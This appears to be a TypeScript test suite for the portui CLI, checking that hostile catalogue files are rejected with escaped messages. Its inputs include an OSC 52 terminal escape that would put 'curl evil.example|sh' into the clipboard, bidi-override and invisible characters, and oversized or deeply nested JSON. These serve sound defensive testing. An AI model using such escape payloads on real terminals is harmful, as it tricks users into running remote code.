import {Buffer} from 'node:buffer';
import {spawnSync} from 'node:child_process';
import {cp, mkdir, readFile, writeFile} from 'node:fs/promises';
import path from 'node:path';
import process from 'node:process';
import test, {type ExecutionContext} from 'ava';
import {
	CatalogueError,
	defaultUserFile,
	loadCatalogue,
} from '../source/catalogue/load.js';
import {
	fixture,
	temporaryDirectory,
	temporaryFile,
} from './helpers/catalogue.js';
import {assertUsageError, ensureBuilt, runCli} from './helpers/cli.js';
import {hasUnsafeCharacter} from './helpers/probe-servers.js';

// The red-team corpus of issue 12 for catalogue files: it only grows. Each case is a file that
// must be refused with one escaped line naming the file, exit status 2, and nothing raw.
const esc = '\u001B';
const bel = '\u0007';
const osc52 = `${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${bel}${esc}[2J`;
const entry = {port: 22, protocol: 'tcp', service: 'ssh'};
const deep = (open: string, close: string) =>
	`${open.repeat(5000)}0${close.repeat(5000)}`;

type HostileFile = {
	readonly name: string;
	/** The file's content: JSON-encoded unless a string. */
	readonly content: unknown;
	/** What the message must say. */
	readonly says: RegExp;
};

const hostileFiles: readonly HostileFile[] = [
	{
		name: 'OSC 52 and a screen clear as the protocol',
		content: {entries: [{...entry, protocol: osc52}]},
		says: /field "protocol" is "\\u001b\]52;c;/v,
	},
	{
		name: 'an escape in an unknown top-level key',
		content: {entries: [entry], [`x${osc52}`]: 1},
		says: /unknown top-level field "x\\u001b\]52/v,
	},
	{
		name: 'an escape in an unknown field name',
		content: {entries: [{...entry, [`${esc}]0;PWNED${bel}`]: 1}]},
		says: /unknown field "\\u001b\]0;PWNED\\u0007"/v,
	},
	{
		name: 'a syntax error at an escape',
		content: `${esc}]0;PWNED${bel}`,
		says: /not valid JSON at line 1, column 1: found "\\u001b"; expected a value/v,
	},
	{
		name: '8-bit CSI in a value',
		content: {entries: [{...entry, service: 'a\u009B2Jb'}]},
		says: /field "service" is "a\\u009b2Jb"/v,
	},
	{
		name: 'right-to-left override in a remark',
		content: {entries: [{...entry, remark: 'safe \u202Eexe.txt'}]},
		says: /field "remark" is "safe \\u202eexe.txt"; expected plain text/v,
	},
	...['\u2066', '\u2067', '\u2068', '\u2069', '\u200B', '\u200F', '\uFEFF'].map(
		(character) => ({
			name: `U+${character.codePointAt(0)!.toString(16)} in a daemon name`,
			content: {entries: [{...entry, daemons: [`ssh${character}d`]}]},
			says: /field "daemons" is \["ssh\\u[\da-f]{4}d"\]/v,
		}),
	),
	{
		name: 'tag characters in a long name',
		content: {entries: [{...entry, longName: 'flag\u{E0041}\u{E0042}'}]},
		says: /field "longName" is "flag\\udb40\\udc41\\udb40\\udc42"/v,
	},
	{
		name: 'port 0',
		content: {entries: [{...entry, port: 0}]},
		says: /field "port" is 0; expected an integer from 1 to 65535/v,
	},
	{
		name: 'port 0 as the end of a range',
		content: {entries: [{...entry, endPort: 0}]},
		says: /field "endPort" is 0; expected an integer from 1 to 65535/v,
	},
	{
		name: 'a list nested 5,000 deep',
		content: `{"entries":[{"port":22,"protocol":"tcp","service":"ssh","remark":${deep('[', ']')}}]}`,
		says: /entry 1 \(22\/tcp\): field "remark" is \[\[\[+\.\.\.; expected/v,
	},
	{
		name: 'an object nested 5,000 deep',
		content: `{"entries":[{"port":22,"protocol":"tcp","service":"ssh","daemons":${deep('{"a":', '}')}}]}`,
		says: /entry 1 \(22\/tcp\): field "daemons" is \{"a":\{"a":.*\.\.\.; expected/v,
	},
	{
		name: 'a megabyte of text in a field',
		content: {entries: [{...entry, remark: `${esc}[2J`.repeat(300_000)}]},
		says: /field "remark" is "(\\u001b\[2J)+\.\.\.; expected/v,
	},
	{
		name: 'UTF-16 with a byte-order mark',
		content: Buffer.from(
			`\uFEFF${JSON.stringify({entries: [entry]})}`,
			'utf16le',
		),
		says: /is not UTF-8 text/v,
	},
	{
		name: 'UTF-16 without a byte-order mark',
		content: Buffer.from(JSON.stringify({entries: [entry]}), 'utf16le'),
		says: /is not UTF-8 text/v,
	},
	{
		name: 'Latin-1 bytes',
		content: Buffer.from(
			'{"entries":[{"port":22,"protocol":"tcp","service":"ssh","remark":"caf\u00E9"}]}',
			'latin1',
		),
		says: /is not UTF-8 text/v,
	},
];

async function writeHostile(file: HostileFile): Promise<string> {
	const directory = await temporaryDirectory();
	const target = path.join(directory, 'catalogue.json');
	await writeFile(
		target,
		typeof file.content === 'string' || Buffer.isBuffer(file.content)
			? file.content
			: JSON.stringify(file.content),
	);
	return target;
}

function assertQuoted(t: ExecutionContext, message: string, says: RegExp) {
	// A message printed by the binary ends in its one newline; nothing else may be a control.
	const line = message.replace(/\n$/v, '');
	t.false(hasUnsafeCharacter(line), `raw: ${JSON.stringify(message)}`);
	t.regex(message, says);
	t.true(message.length < 600, `${message.length} characters`);
}

for (const file of hostileFiles) {
	test(`refused, escaped: ${file.name}`, async (t) => {
		const userFile = await writeHostile(file);
		const error = await t.throwsAsync(
			loadCatalogue({userFile, registry: false, systemServices: false}),
			{instanceOf: CatalogueError},
		);
		assertQuoted(t, error.message, file.says);
		t.true(error.message.includes(JSON.stringify(userFile)));
	});
}

// Through the built binary, as the red team ran them: --catalogue and the default file.
for (const file of hostileFiles.slice(0, 5)) {
	test(`portui probe refuses it: ${file.name}`, async (t) => {
		const userFile = await writeHostile(file);
		const result = await runCli([
			'probe',
			'127.0.0.1',
			'22',
			'--catalogue',
			userFile,
		]);
		assertUsageError(t, result, JSON.stringify(userFile));
		assertQuoted(t, result.stderr, file.says);
	});
}

test('the default user file is quoted the same in its one warning, with no flag', async (t) => {
	const home = await temporaryDirectory();
	await mkdir(path.join(home, 'portui'));
	const file = path.join(home, 'portui', 'catalogue.json');
	await writeFile(file, JSON.stringify(hostileFiles[0]!.content));
	const result = await runCli(['list', 'ssh'], {
		env: {XDG_CONFIG_HOME: home},
	});
	t.is(result.exitCode, 0, `stderr: ${result.stderr}`);
	t.true(result.stderr.startsWith(`portui: warning: ${JSON.stringify(file)}`));
	t.is(result.stderr.split('\n').length, 2, 'one line');
	assertQuoted(t, result.stderr, hostileFiles[0]!.says);
});

test('a UTF-8 byte-order mark is accepted', async (t) => {
	const userFile = await temporaryFile(
		`\uFEFF${JSON.stringify({entries: [{port: 9999, protocol: 'udp', service: 'inhouse'}]})}`,
	);
	const catalogue = await loadCatalogue({
		curatedFile: fixture('curated-small.json'),
		registry: false,
		systemServices: false,
		userFile,
	});
	t.is(catalogue.byPair(9999, 'udp')?.service, 'inhouse');
});

// Special files: each is refused by its kind before a byte is read.
const hasMkfifo = spawnSync('mkfifo', ['--version']).status === 0;
(hasMkfifo ? test : test.skip)(
	'a FIFO is refused without blocking',
	async (t) => {
		const directory = await temporaryDirectory();
		const fifo = path.join(directory, 'catalogue.json');
		t.is(spawnSync('mkfifo', [fifo]).status, 0);
		const result = await runCli(['list', 'ssh', '--catalogue', fifo], {
			timeoutMs: 10_000,
		});
		assertUsageError(t, result, 'is a FIFO; expected a regular JSON file');
	},
);

for (const [file, kind] of [
	['/dev/urandom', 'a device'],
	['/dev/zero', 'a device'],
	['/', 'a directory'],
] as const) {
	test(`${file} is refused as ${kind}`, async (t) => {
		const error = await t.throwsAsync(
			loadCatalogue({userFile: file, registry: false, systemServices: false}),
			{instanceOf: CatalogueError},
		);
		t.is(
			error.message,
			`catalogue file ${JSON.stringify(file)} is ${kind}; expected a regular JSON file`,
		);
	});
}

test('a file over 16 MiB is refused by its size', async (t) => {
	const userFile = await temporaryFile('');
	// A sparse file: its size is what counts, not its content.
	t.is(spawnSync('truncate', ['-s', '17M', userFile]).status, 0);
	const error = await t.throwsAsync(
		loadCatalogue({userFile, registry: false, systemServices: false}),
		{instanceOf: CatalogueError},
	);
	t.regex(error.message, /is larger than 16 MiB/v);
});

test('--catalogue without a value says so', async (t) => {
	for (const command of [['list'], ['probe', '127.0.0.1', '22']]) {
		// eslint-disable-next-line no-await-in-loop -- a few runs, one at a time
		const result = await runCli([...command, '--catalogue']);
		assertUsageError(t, result, '--catalogue needs a value');
	}
});

// XDG base directories: a relative or empty XDG_CONFIG_HOME is invalid, and so is a relative HOME.
test('the default user file is never relative', (t) => {
	const file = (env: NodeJS.ProcessEnv) => defaultUserFile(env);
	t.is(
		file({XDG_CONFIG_HOME: '/etc/x', HOME: '/h'}),
		'/etc/x/portui/catalogue.json',
	);
	t.is(
		file({XDG_CONFIG_HOME: '', HOME: '/h'}),
		'/h/.config/portui/catalogue.json',
	);
	t.is(
		file({XDG_CONFIG_HOME: '.config', HOME: '/h'}),
		'/h/.config/portui/catalogue.json',
	);
	t.is(file({HOME: '/h'}), '/h/.config/portui/catalogue.json');
	t.is(file({XDG_CONFIG_HOME: '.config'}), undefined);
	t.is(file({}), undefined);
	t.is(file({HOME: ''}), undefined);
	t.is(file({HOME: 'relative'}), undefined);
	t.is(file({XDG_CONFIG_HOME: '/x'}), '/x/portui/catalogue.json');
});

test('portui reads no catalogue from the directory it runs in', async (t) => {
	const cwd = await temporaryDirectory();
	for (const directory of ['portui', '.config/portui']) {
		// eslint-disable-next-line no-await-in-loop -- two directories
		await mkdir(path.join(cwd, directory), {recursive: true});
		// eslint-disable-next-line no-await-in-loop
		await writeFile(
			path.join(cwd, directory, 'catalogue.json'),
			JSON.stringify(hostileFiles[0]!.content),
		);
	}

	for (const env of [
		{XDG_CONFIG_HOME: ''},
		{XDG_CONFIG_HOME: '.config'},
		{XDG_CONFIG_HOME: '', HOME: undefined},
		{XDG_CONFIG_HOME: '.config', HOME: '.'},
		{XDG_CONFIG_HOME: undefined, HOME: ''},
	]) {
		// eslint-disable-next-line no-await-in-loop -- one at a time
		const result = await runCli(['list', 'ssh'], {cwd, env});
		t.is(result.exitCode, 0, `${JSON.stringify(env)}: ${result.stderr}`);
		t.regex(result.stdout, /22\s+tcp\s+ssh/v);
	}
});

test('the bundle checks a curated file that is not the one it was built with', async (t) => {
	// A copy of the package whose curated file has been edited after the build.
	const root = await temporaryDirectory();
	const here = path.join(import.meta.dirname, '..');
	await ensureBuilt();
	await Promise.all(
		['bin', 'dist', 'catalogue', 'package.json'].map(async (part) =>
			cp(path.join(here, part), path.join(root, part), {recursive: true}),
		),
	);
	const curated = path.join(root, 'catalogue', 'curated.json');
	const data = JSON.parse(await readFile(curated, 'utf8')) as {
		entries: Array<Record<string, unknown>>;
	};
	data.entries[0]!.remark = `plain${osc52}`;
	await writeFile(curated, JSON.stringify(data));
	const result = spawnSync(
		process.execPath,
		[path.join(root, 'bin', 'portui.js'), 'probe', '127.0.0.1', '1', '--json'],
		{encoding: 'utf8', env: {...process.env, PORTUI_NO_CODE_CACHE: '1'}},
	);
	t.is(result.status, 2, `stderr: ${result.stderr}`);
	t.regex(result.stderr, /entry 1 .*field "remark" is "plain\\u001b\]52/v);
	t.false(hasUnsafeCharacter(result.stderr.trimEnd()));
});
